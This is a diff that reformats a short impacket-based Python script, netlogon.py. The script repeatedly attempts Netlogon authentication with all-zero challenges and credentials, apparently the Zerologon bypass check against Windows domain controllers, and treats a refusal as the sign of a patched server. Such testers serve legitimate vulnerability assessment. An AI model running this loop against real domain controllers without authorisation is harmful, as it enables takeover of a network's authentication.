@@ -2,6 +2,7 @@
 
 Usage: netlogon.py ADDRESS NAME TRIES
 """
+
 import sys
 
 from impacket.dcerpc.v5 import epm, nrpc, transport
@@ -14,6 +15,8 @@ called.bind(nrpc.MSRPC_UUID_NRPC)
 for _ in range(tries):
     try:
         nrpc.hNetrServerReqChallenge(called, f'{name}\0', f'{name}\0', b'\0' * 8)
-        nrpc.hNetrServerAuthenticate3(called, f'{name}$\0', f'{name}$\0', nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, f'{name}\0', b'\0' * 8, 0x212FFFFF)
+        nrpc.hNetrServerAuthenticate3(
+            called, f'{name}$\0', f'{name}$\0', nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, f'{name}\0', b'\0' * 8, 0x212FFFFF
+        )
     except nrpc.DCERPCSessionError:
         pass  # refused, as a patched server does
